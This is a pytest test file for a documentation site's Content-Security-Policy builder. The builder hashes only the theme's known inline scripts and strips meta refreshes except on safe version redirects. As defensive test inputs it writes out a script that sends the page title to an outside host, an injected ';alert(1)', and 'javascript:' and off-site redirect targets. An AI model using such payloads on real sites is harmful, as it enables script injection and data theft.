"""The pages' policy allows only the theme's own inline scripts (a fixed list, compared here with the
installed theme), never a script a page happens to carry, and takes out any refresh."""
from __future__ import annotations

import re
from importlib import util
from pathlib import Path

import pytest

from handbook.site import csp

THEMES = [name for name in ("material", "zensical") if util.find_spec(name)]
PARTIALS = ("partials/javascripts/base.html", "partials/javascripts/content.html", "partials/javascripts/palette.html")


def theme_scripts(theme: str) -> list[str]:
    """The inline scripts of the theme's partials the handbook's pages use, their base written as "../.."."""
    folder = Path(util.find_spec(theme).origin).parent / "templates"
    found = []
    for partial in PARTIALS:
        for body in re.findall(r"<script>(.*?)</script>", (folder / partial).read_text(encoding="utf-8")):
            if "__tabs" not in body:  # content tabs' memory: the handbook's pages have no tabs
                found.append(re.sub(r"\{\{.*?\}\}", "../..", body))
    return found


@pytest.mark.parametrize("theme", THEMES)
def test_every_inline_script_of_the_installed_theme_is_in_the_fixed_list(theme):
    scripts = theme_scripts(theme)
    assert len(scripts) == 3
    assert all(csp.trusted(script) for script in scripts), "the theme changed: copy its scripts to THEME_SCRIPTS"


def test_each_script_in_the_fixed_list_is_one_a_theme_writes():
    written = [script for theme in THEMES for script in theme_scripts(theme)]
    for script in csp.THEME_SCRIPTS:
        assert script.format(base="../..") in written


PAGE = ('<!doctype html><html><head><meta charset="utf-8"><script>{theme}</script></head><body>'
        '<p>Policy</p><script>{other}</script>'
        '<meta http-equiv="refresh" content="0; url=https://example.org/"><META HTTP-EQUIV=Refresh content=1>'
        '</body></html>')
THEME = csp.THEME_SCRIPTS[1].format(base="..")


@pytest.mark.parametrize("other", ["location = 'https://example.org/?' + document.title",
                                   csp.THEME_SCRIPTS[1].format(base="https://example.org/"),
                                   csp.THEME_SCRIPTS[0] + ";alert(1)", ""])
def test_a_script_the_theme_did_not_write_gets_no_hash_and_a_refresh_is_taken_out(other):
    protected = csp.protect(PAGE.format(theme=THEME, other=other))
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', protected)[1]
    assert csp.script_hashes(f"<script>{THEME}</script>")[0] in policy
    assert csp.script_hashes(f"<script>{other}</script>") == [] or other == ""
    assert policy.count("'sha256-") == 1
    assert "unsafe-inline" not in policy
    assert "refresh" not in protected.lower()


def redirect_page(version: str) -> str:
    """mike's redirect page for an alias, as its installed template writes it."""
    folder = Path(util.find_spec("mike").origin).parent / "templates"
    return (folder / "redirect.html").read_text(encoding="utf-8").replace("{{href}}", version)


@pytest.mark.parametrize("version", ["1.1/", "../1.1/", "../../1.1/can-i-share/"])  # an alias, and its pages
def test_mikes_redirect_pages_keep_their_script_and_refresh_to_a_version(version):
    protected = csp.protect(redirect_page(version), redirect=True)
    assert csp.script_hashes(protected, redirect=True)[0] in protected
    assert f'content="1; url={version}"' in protected


@pytest.mark.parametrize("version", ["https://example.org/", "javascript:alert(1)//", "//example.org/1.1/"])
def test_a_redirect_elsewhere_is_neither_run_nor_refreshed(version):
    protected = csp.protect(redirect_page(version), redirect=True)
    assert "'sha256-" not in protected and "refresh" not in protected
    assert "refresh" not in csp.protect(redirect_page("1.1/"))  # only a redirect page keeps one


def test_mikes_root_page_keeps_its_script():
    folder = Path(util.find_spec("mike").origin).parent / "templates"
    page = (folder / "index.html").read_text(encoding="utf-8").replace("{{version}}", "latest/")
    assert len(csp.script_hashes(page, redirect=True)) == 1


def test_a_page_without_scripts_lets_none_run():
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', csp.protect(
        "<html><head><meta charset=\"utf-8\"></head><body><p>No script here.</p></body></html>"))[1]
    assert "script-src 'none'" in policy.split("; ") and "wasm-unsafe-eval" not in policy
    assert "default-src 'self'" in policy.split("; ") and "object-src 'none'" in policy.split("; ")
    with_script = csp.protect("<html><head><meta charset=\"utf-8\"><script src=\"a.js\"></script></head></html>")
    assert "script-src 'self' 'wasm-unsafe-eval'" in with_script
